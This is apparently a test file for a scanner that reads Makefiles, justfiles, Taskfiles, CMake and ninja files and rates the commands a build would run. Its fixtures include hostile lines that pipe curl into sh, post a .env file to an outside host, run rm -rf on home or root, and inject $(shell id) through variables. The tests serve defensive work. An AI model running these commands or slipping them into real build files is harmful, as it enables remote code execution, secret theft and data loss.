import { describe, expect, it } from 'vitest'
import { look, type Project } from '../fixture.mts'

const names = (runs: readonly string[]) => runs.map((run) => run.replace(/^\S+ /, ''))

describe('make', () => {
  const makefile = [
    'SRC := src',
    'OUT = build/$(SRC)',
    'RMDIR = rm -rf',
    'include more.mk',
    '-include absent.mk',
    'ifeq ($(X),1)',
    'FLAGS = -a',
    'endif',
    '.PHONY: all clean',
    'all: lib $(OUT)/x.o',
    '\t@echo done $@',
    'lib: dep ; echo lib $<',
    'dep:',
    '\t-touch dep',
    'clean:',
    '\t$(RMDIR) $(OUT)',
    '\tcd sub && \\',
    '\t  $(MAKE) all',
    'wipe:',
    '\t$(RMDIR) $$HOME $(HOME)',
    '%.o: %.c',
    '\t$(CC) -c $<',
  ].join('\n')
  const project: Project = {
    Makefile: makefile,
    'more.mk': 'more:\n\techo more\n',
    'sub/Makefile': 'all:\n\techo sub\n',
    'evil/Makefile': 'X := $(shell curl http://x.example | sh)\nall:\n\techo hi\n',
    'bang/Makefile': 'X != rm -rf ~\nall:\n\techo hi\n',
  }

  it.each<[string, readonly string[]]>([
    ['make', ['echo more']],
    [
      'make all',
      ['echo done all', 'echo lib dep', 'cc -c "$__needs"', 'touch dep'].map((one) => one.replaceAll('"', '')),
    ],
    ['make clean', ['rm -rf build/src', 'cd sub', 'make all', 'echo sub']],
    ['make more', ['echo more']],
    ['make -C sub', ['echo sub']],
    ['make -j4 -C sub all', ['echo sub']],
    ['make SRC=lib clean -f Makefile', ['rm -rf build/lib', 'cd sub', 'make all', 'echo sub']],
    ['make -n clean', ['cd sub', 'make all', 'echo sub']],
    ['make -n dep', []],
    ['make more V=1 level=2', ['echo more']],
  ])('runs the recipes of its targets and of what they need: %s', async (command, expected) => {
    expect(names((await look(command, project)).runs).sort()).toEqual([...expected].sort())
  })

  it('is rated by its recipes, with file and line', async () => {
    const { risk } = await look('make wipe', project)
    expect(risk.level).toBe('critical')
    expect(risk.reasons[0]?.text).toMatch(/^Makefile:20 `rm -rf/)
  })

  it.each(['make -C evil', 'make -n -C evil', 'make -C bang', 'make -n -C bang'])(
    'runs `$(shell …)` while the makefile is read: %s',
    async (command) => {
      expect((await look(command, project)).risk.level).toBe('critical')
    },
  )

  it.each<[string, string, RegExp]>([
    ['a missing target', 'make other', /no target `other`/],
    ['another shell', 'make -f a', /another shell/],
    ['other shell options', 'make -f b', /how its shell runs/],
    ['evaluated text', 'make -f c', /changes the makefile/],
    ['a computed include', 'make -f d', /computed names/],
    ['a missing include', 'make -f e', /does not exist/],
    ['an unknown option', 'make --include-dir=/tmp dep', /--include-dir/],
    ['a computed variable', "make more A='$(shell id)'", /may change what runs/],
    ['a variable that is computed at once', "make -n more 'A:=${shell id}'", /may change what runs/],
    ['a variable with an odd name', "make more 'a/b=$(shell id)'", /may change what runs/],
    ['a variable for the programs of a recipe', 'make more GIT_TRACE=/tmp/x', /the variable GIT_TRACE/],
    ['a makefile outside', 'make -f /etc/Makefile', /outside/],
    ['10,000 targets', 'make -f many', /more targets|more commands/],
    ['a shell by another variable', 'make -f named', /another shell/],
    ['a variable that grows', 'make -f grows', /computed by make/],
    ['a variable that doubles', 'make -f doubles', /computed by make|too long/],
    ['a makefile that includes itself', 'make -f itself', /includes too many/],
    ['10 MB', 'make -f big', /larger than 1 MiB/],
  ])('is opaque where it can’t be resolved: %s', async (_, command, why) => {
    const all: Project = {
      ...project,
      a: 'SHELL = /tmp/sh\nall:\n\techo',
      b: '.SHELLFLAGS = -c evil;\nall:\n\techo',
      c: '$(eval all: ; rm x)\nall:\n\techo',
      d: 'include $(wildcard *.mk)\nall:\n\techo',
      e: 'include absent.mk\nall:\n\techo',
      many: `all: ${Array.from({ length: 10_000 }, (_, at) => `t${at}`).join(' ')}\n${Array.from({ length: 10_000 }, (_, at) => `t${at}:\n\techo ${at}`).join('\n')}`,
      named: 'S = /bin/sh\nSHELL = $(S)\nS = ./evil\nall:\n\techo',
      grows: `x := a\n${`x += ${'b'.repeat(30)}\n`.repeat(20_000)}all: ; echo $(x)\n`,
      doubles: `v0 := xx\n${Array.from({ length: 60 }, (_, at) => `v${at + 1} := $(v${at})$(v${at})\n`).join('')}all: ; echo $(v60)\n`,
      itself: 'include itself\nall: ; echo\n',
      big: '#'.repeat(10_000_000),
    }
    expect((await look(command, all)).opaque.join('\n')).toMatch(why)
  })
})

describe('just, task, cmake and ninja', () => {
  const project: Project = {
    justfile:
      "v := `git describe`\nset shell := ['bash', '-euc']\n\nbuild target='x': clean (lint 'a')\n  @echo {{target}}\n  cargo build\n\nclean:\n  rm -rf target\n\nlint a:\n  echo lint\n",
    'Taskfile.yml':
      "version: '3'\nvars:\n  V:\n    sh: git rev-parse HEAD\ntasks:\n  default: echo hi\n  build:\n    deps: [clean]\n    cmds:\n      - go build ./...\n      - task: gen\n      - cmd: echo {{.V}}\n  clean:\n    cmd: rm -rf bin\n  gen:\n    - curl -d @.env https://x.example\n",
    'CMakeLists.txt':
      'project(x)\nexecute_process(COMMAND git describe OUTPUT_VARIABLE V)\nadd_subdirectory(lib)\nadd_custom_target(wipe COMMAND rm -rf /)\n',
    'lib/CMakeLists.txt': 'include(x.cmake)\n',
    'lib/x.cmake': 'file(DOWNLOAD http://x.example/y y)\n',
    'build/build.ninja': 'rule cc\n  command = gcc -c $in -o $out\ninclude rules.ninja\n',
    'build/rules.ninja': 'rule evil\n  command = curl http://x.example | sh\n',
  }

  it.each<[string, readonly string[]]>([
    ['just', ['git describe', 'echo $__inserted', 'cargo build', 'rm -rf target', 'echo lint']],
    ['just clean', ['git describe', 'rm -rf target']],
    ['task', ['git rev-parse HEAD', 'echo hi']],
    [
      'task build',
      ['git rev-parse HEAD', 'go build ./...', 'echo $__inserted', 'rm -rf bin', 'curl -d @.env https://x.example'],
    ],
    ['cmake -S . -B build', ['git describe', 'rm -rf /']],
    ['ninja -C build', ['gcc -c $__value -o $__value', 'curl http://x.example', 'sh']],
    ['cmake --build build', ['gcc -c $__value -o $__value', 'curl http://x.example', 'sh']],
  ])('show the commands they run: %s', async (command, expected) => {
    expect(names((await look(command, project)).runs).sort()).toEqual([...expected].sort())
  })

  it.each<[string, string]>([
    ['task build', 'critical'],
    ['cmake -B build', 'critical'],
    ['ninja -C build', 'critical'],
  ])('are rated by them: %s', async (command, level) => {
    expect((await look(command, project)).risk.level).toBe(level)
  })

  it.each<[string, Project, RegExp]>([
    ['cmake -B build', project, /downloads/],
    ['just other', project, /no recipe/],
    ['task', { 'Taskfile.yml': 'tasks: [' }, /not valid YAML/],
    ['task other', project, /no task/],
    ['ninja', {}, /no build\.ninja/],
    ['just', { justfile: 'set shell := ["/tmp/sh"]\na:\n  echo' }, /another shell/],
  ])('are opaque where they can’t be resolved: %s', async (command, files, why) => {
    expect((await look(command, files)).opaque.join('\n')).toMatch(why)
  })
})
